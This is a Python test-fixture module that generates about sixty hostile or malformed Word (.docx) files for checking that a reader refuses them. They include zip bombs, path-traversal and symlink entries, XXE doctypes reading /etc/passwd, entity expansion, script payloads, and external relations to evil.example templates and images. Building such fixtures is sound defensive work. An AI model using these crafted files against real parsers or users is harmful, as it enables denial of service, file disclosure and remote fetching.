"""Files that somebody with bad intentions would present as a Word document (audit B5), each made by code.

`hostile(good)` gives the bytes of each by its name; a reader must refuse all of them, quickly and in little memory.
"""

import io
import os
import stat
import struct
import zipfile
from collections.abc import Callable, Iterator, Mapping
from functools import cache, partial

Parts = dict[str, bytes]
MAIN = "word/document.xml"
TYPES = "[Content_Types].xml"
RELATIONS = "word/_rels/document.xml.rels"
SETTINGS = "word/_rels/settings.xml.rels"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def parts_of(data: bytes) -> Parts:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def zipped(parts: Parts, change: Callable[[zipfile.ZipInfo], None] | None = None) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, body in parts.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if change is not None:
                change(info)
            package.writestr(info, body)
    return file.getvalue()


@cache
def hostile(good: bytes) -> Mapping[str, bytes]:
    """What it is: its bytes; at least sixty of them."""
    parts = parts_of(good)
    return Files(dict(_small(good, parts)), _bombs(parts))


class Files(Mapping[str, bytes]):
    """Files by what they are; a large one is made when somebody first asks for it."""

    def __init__(self, made: dict[str, bytes], makers: Mapping[str, Callable[[], bytes]]) -> None:
        self._made, self._makers = made, makers
        self._names = (*made, *makers)

    def __getitem__(self, name: str) -> bytes:
        if name not in self._made:
            self._made[name] = self._makers[name]()
        return self._made[name]

    def __iter__(self) -> Iterator[str]:
        return iter(self._names)

    def __len__(self) -> int:
        return len(self._names)


def _small(good: bytes, parts: Parts) -> Iterator[tuple[str, bytes]]:
    yield from _no_document(good, parts)
    yield from _names(parts)
    yield from _foreign_parts(parts)
    yield from _lies(good)
    yield from _xml(parts)
    yield from _outside(parts)


def _no_document(good: bytes, parts: Parts) -> Iterator[tuple[str, bytes]]:
    yield "nothing", b""
    yield "one byte", b"P"
    yield "a text", "Согласовано".encode() * 500
    yield "noise", os.urandom(50_000)
    yield "an old Word file", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4096)
    yield "a picture", b"\x89PNG\r\n\x1a\n" + bytes(1000)
    yield "a PDF", b"%PDF-1.7\n" + bytes(1000)
    yield "an SVG", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "an empty archive", b"PK\x05\x06" + bytes(18)
    yield "a PDF and an archive in one", b"%PDF-1.7\n" + good
    yield "a program and an archive in one", b"MZ" + bytes(512) + good
    yield "a page behind the archive", good + b"<html><script>alert(1)</script></html>"
    yield "a comment behind the archive", good[:-2] + struct.pack("<H", 20) + b"<script>alert(1)</sc"
    yield "two archives in one", good + good
    yield "half of a file", good[: len(good) // 2]
    yield "without its end", good[:-22]
    for name in (MAIN, TYPES, "_rels/.rels"):
        yield f"without {name}", zipped({one: body for one, body in parts.items() if one != name})
    yield "a table instead", zipped({TYPES: parts[TYPES], "_rels/.rels": b"<x/>", "xl/workbook.xml": b"<x/>"})
    yield "twenty-one megabytes", good + bytes(21 << 20)


def _bombs(parts: Parts) -> dict[str, Callable[[], bytes]]:
    def with_part(name: str, body: Callable[[], bytes]) -> Callable[[], bytes]:
        return lambda: zipped({**parts, name: body()})

    inner = partial(zipped, {"x": bytes(10 << 20)})
    twelve = bytes(12 << 20)
    return {
        "two hundred megabytes in the text": with_part(MAIN, lambda: bytes(200 << 20)),
        "two hundred megabytes in a picture": with_part("word/media/x.png", lambda: bytes(200 << 20)),
        "fifteen megabytes of spaces": with_part(MAIN, lambda: b" " * (15 << 20)),
        "five parts of twelve megabytes": lambda: zipped(
            {**parts, **{f"word/media/{n}.png": twelve for n in range(5)}}
        ),
        "sixty-five thousand parts": lambda: _many(parts, 65_000),
        "a thousand parts": lambda: _many(parts, 1_000),
        "an archive in the archive": with_part("word/media/inner.zip", inner),
        "a document in the document": with_part("word/embeddings/inner.docx", inner),
        "a million elements": with_part(MAIN, lambda: _main(b"<w:p/>" * 1_000_000)),
        "deep elements": with_part(MAIN, lambda: _main(b"<w:p>" * 400_000)),
        "parts that share their bytes": lambda: _overlapping(parts),
    }


def _many(parts: Parts, count: int) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as package:
        for name, body in parts.items():
            package.writestr(name, body)
        for number in range(count):
            package.writestr(f"word/media/{number}.png", b"")
    return file.getvalue()


def _overlapping(parts: Parts) -> bytes:
    """Two entries of the directory over one part."""
    data = bytearray(zipped({**parts, "word/media/a.png": os.urandom(3000), "word/media/b.png": b"b"}))
    start = int.from_bytes(data[-6:-2], "little")
    first, second = data.find(b"word/media/a.png", start), data.find(b"word/media/b.png", start)
    data[second - 46 + 42 : second] = data[first - 46 + 42 : first]
    return bytes(data)


def _names(parts: Parts) -> Iterator[tuple[str, bytes]]:
    for name in (
        "../evil.xml",
        "word/../../evil.xml",
        "/etc/passwd",
        "C:/windows/x.xml",
        "word\\..\\evil.xml",
        "word//x.xml",
        "./x.xml",
        "word/\u202elmx.x",
        "word/документ.xml",
        "word/a\tb.xml",
    ):
        yield f"the name {name!r}", zipped({**parts, name: b"<x/>"})
    yield "the same part twice", _twice(parts, MAIN, MAIN)
    yield "the same part in other letters", _twice(parts, MAIN, "word/Document.xml")
    yield "a link", zipped({**parts, "word/link.xml": b"/etc/passwd"}, _as_link)


def _twice(parts: Parts, name: str, other: str) -> bytes:
    spelled = other.replace("/", "|") if other == name else other
    data = zipped({**parts, spelled: parts[name]})
    return data.replace(spelled.encode(), other.encode())


def _as_link(info: zipfile.ZipInfo) -> None:
    if info.filename == "word/link.xml":
        info.external_attr = (stat.S_IFLNK | 0o777) << 16


def _foreign_parts(parts: Parts) -> Iterator[tuple[str, bytes]]:
    for name in (
        "word/vbaProject.bin",
        "word/vbaData.xml",
        "word/activeX/activeX1.xml",
        "word/embeddings/oleObject1.bin",
        "word/media/image1.svg",
        "word/afchunk.html",
        "word/media/run.exe",
        "word/media/run.js",
        "word/media/x.pdf",
        "word/template.dotm",
    ):
        yield f"with {name}", zipped({**parts, name: b"<x/>"})
    kinds = parts[TYPES].replace(b"wordprocessingml.document.main+xml", b"x.macroEnabled.main+xml")
    yield "of a kind with macros", zipped({**parts, TYPES: kinds})


def _lies(good: bytes) -> Iterator[tuple[str, bytes]]:
    start = int.from_bytes(good[-6:-2], "little")

    def changed(place: int, value: bytes) -> bytes:
        made = bytearray(good)
        made[place : place + len(value)] = value
        return bytes(made)

    yield "encrypted", changed(start + 8, b"\x01\x00")
    yield "packed by another method", changed(start + 10, struct.pack("<H", 14))
    yield "a size said too small", changed(start + 24, struct.pack("<L", 10))
    yield "a size said too large", changed(start + 24, struct.pack("<L", 5_000_000))
    yield "a size said enormous", changed(start + 24, b"\xff\xff\xff\xff")
    yield "another checksum", changed(start + 16, b"\x00\x00\x00\x01")
    yield "another offset", changed(start + 42, struct.pack("<L", 77))
    yield "a directory elsewhere", changed(len(good) - 6, struct.pack("<L", 9))
    yield "more parts than there are", changed(len(good) - 14, struct.pack("<HH", 300, 300))
    yield "packed bytes spoilt", changed(60, bytes(20))
    end = good[-22:]
    locator = b"PK\x06\x07" + struct.pack("<LQL", 0, 0, 1)
    yield "a directory of the larger kind", good[:-22] + locator + end


def _main(inside: bytes) -> bytes:
    return f"<w:document {WORD}><w:body>".encode() + inside + b"</w:body></w:document>"


def _xml(parts: Parts) -> Iterator[tuple[str, bytes]]:
    declared = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    yield "with entities that grow", zipped({**parts, MAIN: declared + _main(b"<w:t>&b;</w:t>")})
    outside = b'<!DOCTYPE x SYSTEM "file:///etc/passwd">'
    for name in (MAIN, TYPES, "_rels/.rels", "docProps/custom.xml", "word/footer1.xml", "word/styles.xml"):
        yield f"a document type in {name}", zipped({**parts, name: outside + parts[name]})
    wide = "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>".encode("utf-16")
    yield "a document type in wide letters", zipped({**parts, MAIN: wide})
    yield "a text that is no XML", zipped({**parts, MAIN: b"<w:document>"})
    yield "a text of zeros", zipped({**parts, MAIN: bytes(1000)})
    yield "a margin that is no XML", zipped({**parts, "word/header9.xml": b"<w:hdr>"})


def _outside(parts: Parts) -> Iterator[tuple[str, bytes]]:
    for kind, target in (
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("oleObject", "file:///C:/x.xls"),
        ("image", "http://evil.example/seen.png"),
        ("frame", "http://evil.example/"),
        ("aFChunk", "http://evil.example/"),
    ):
        relation = (
            f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r9" Type="{OFFICE}/{kind}"'
            f' Target="{target}" TargetMode="External"/></Relationships>'
        )
        yield f"an outside {kind}", zipped({**parts, SETTINGS: relation.encode()})
